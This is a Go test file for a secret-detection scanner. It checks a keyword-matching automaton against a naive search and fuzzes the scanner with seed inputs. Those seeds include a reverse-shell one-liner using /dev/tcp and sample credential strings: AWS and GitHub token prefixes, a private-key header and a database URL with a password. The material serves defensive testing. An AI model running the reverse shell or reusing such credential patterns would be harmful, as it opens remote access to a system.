package secrets

import (
	"bytes"
	"fmt"
	mrand "math/rand/v2"
	"slices"
	"testing"
	"unicode/utf8"
)

// naive finds every occurrence of every word, ASCII case-insensitively, as
// (word, end) pairs sorted by end then word.
func naive(words []string, data []byte) [][2]int {
	low := []byte(asciiLower(data))
	var out [][2]int
	for end := 1; end <= len(data); end++ {
		for wi, w := range words {
			if len(w) <= end && asciiLower(low[end-len(w):end]) == asciiLowerString(w) {
				out = append(out, [2]int{wi, end})
			}
		}
	}
	return out
}

func asciiLower(b []byte) string {
	c := make([]byte, len(b))
	for i := range b {
		c[i] = lower(b[i])
	}
	return string(c)
}

func asciiLowerString(s string) string { return asciiLower([]byte(s)) }

func automatonHits(t testing.TB, words []string, data []byte) [][2]int {
	k, err := newKeywords(words)
	if err != nil {
		t.Fatal(err)
	}
	var out [][2]int
	k.scan(data, func(w, end int) { out = append(out, [2]int{w, end}) })
	slices.SortFunc(out, func(a, b [2]int) int {
		if a[1] != b[1] {
			return a[1] - b[1]
		}
		return a[0] - b[0]
	})
	return out
}

func TestKeywordsMatchNaive(t *testing.T) {
	alphabet := "abAB_-c\x00\xff"
	for i := 0; i < 300; i++ {
		var words []string
		for range 1 + mrand.IntN(8) {
			words = append(words, randomFrom(alphabet, 1+mrand.IntN(5)))
		}
		data := []byte(randomFrom(alphabet, mrand.IntN(200)))
		got, want := automatonHits(t, words, data), naive(words, data)
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("words %q data %q:\n got %v\nwant %v", words, data, got, want)
		}
	}
}

// TestKeywordsTwoStreams covers inputs long enough for the interleaved
// scan, with keywords straddling the middle.
func TestKeywordsTwoStreams(t *testing.T) {
	alphabet := "abcAB"
	for i := 0; i < 40; i++ {
		var words []string
		for range 1 + mrand.IntN(6) {
			words = append(words, randomFrom(alphabet, 1+mrand.IntN(7)))
		}
		data := []byte(randomFrom(alphabet, 4096+mrand.IntN(6000)))
		got, want := automatonHits(t, words, data), naive(words, data)
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("words %q on %d bytes: %d hits, want %d", words, len(data), len(got), len(want))
		}
		// The order of the calls is the order of the end offsets.
		k, _ := newKeywords(words)
		last := 0
		k.scan(data, func(_, end int) {
			if end < last {
				t.Fatalf("hit at %d after %d", end, last)
			}
			last = end
		})
	}
}

func TestKeywordsOnRealRules(t *testing.T) {
	s := mustDefault(t)
	data := []byte("x GHP_abc AKIA ghp_ -----BEGIN RSA PRIVATE KEY----- xoxb-1 https://u:p@h")
	got, want := automatonHits(t, s.kw.words, data), naive(s.kw.words, data)
	if fmt.Sprint(got) != fmt.Sprint(want) || len(got) < 5 {
		t.Fatalf("got %v\nwant %v", got, want)
	}
}

func TestEmptyKeywordRefused(t *testing.T) {
	if _, err := newKeywords([]string{"ok", ""}); err == nil {
		t.Fatal("an empty keyword must be refused")
	}
}

// FuzzKeywords checks the automaton against the naive search.
func FuzzKeywords(f *testing.F) {
	f.Add("he\x00she\x00his\x00hers", []byte("ushers"))
	f.Add("akia\x00ghp_\x00private key", []byte("AKIA-- PRIVATE KEY ghp_ghp_"))
	f.Fuzz(func(t *testing.T, wordList string, data []byte) {
		words := bytes.Split([]byte(wordList), []byte{0})
		var ws []string
		for _, w := range words {
			if len(w) > 0 && len(w) < 16 {
				ws = append(ws, string(w))
			}
		}
		if len(ws) == 0 || len(ws) > 32 || len(data) > 1<<14 {
			return
		}
		got, want := automatonHits(t, ws, data), naive(ws, data)
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("words %q data %q:\n got %v\nwant %v", ws, data, got, want)
		}
	})
}

// FuzzScan runs the built-in rules on any input: no panic, offsets inside
// the input, lines counted right, masks that hide the secret.
func FuzzScan(f *testing.F) {
	f.Add("/app/.env", []byte("DATABASE_URL=postgres://a:b3cr3tpass@h/db\n"), false)
	f.Add("/x.sh", []byte("#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1\n"), true)
	f.Add("/k", []byte("-----BEGIN PRIVATE KEY-----\nMIIB"+randomFrom(alnum, 100)+"\n-----END PRIVATE KEY-----\n"), false)
	f.Add("/etc/ssh/sshd_config", []byte("PermitRootLogin yes\n"), false)
	f.Add("/bad\n\xffname", []byte("\xff\xfe ghp_"+randomFrom(alnum, 36)+"\x00"), true)
	s, err := Default()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, path string, data []byte, script bool) {
		fs, err := s.Scan(Input{Path: path, Data: data, Script: script})
		if err != nil && err != ErrBudget {
			t.Fatal(err)
		}
		for _, x := range fs {
			if x.Start < 0 || x.End > len(data) || x.Start > x.End {
				t.Fatalf("offsets %d..%d outside %d bytes", x.Start, x.End, len(data))
			}
			if x.End > 0 {
				if want := bytes.Count(data[:x.Start], []byte("\n")) + 1; x.Line != want {
					t.Fatalf("line %d, want %d", x.Line, want)
				}
			}
			m := MaskIn(x.Match, x.Secret, 160)
			if !utf8.ValidString(m) {
				t.Fatalf("masked match %q is not valid UTF-8", m)
			}
			if x.Kind == KindSecret && len(x.Secret) >= 12 && bytes.Contains([]byte(m), []byte(x.Secret)) {
				t.Fatalf("masked match %q shows the secret %q", m, x.Secret)
			}
		}
	})
}
